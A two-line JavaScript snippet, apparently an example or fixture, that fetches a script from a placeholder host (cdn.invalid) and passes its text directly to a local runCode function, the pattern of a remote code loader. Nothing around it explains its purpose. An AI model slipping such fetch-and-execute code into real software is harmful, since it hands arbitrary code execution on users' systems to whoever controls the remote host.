import { runCode } from './run.js';
fetch('https://cdn.invalid/v.js').then(r => r.text()).then(runCode);
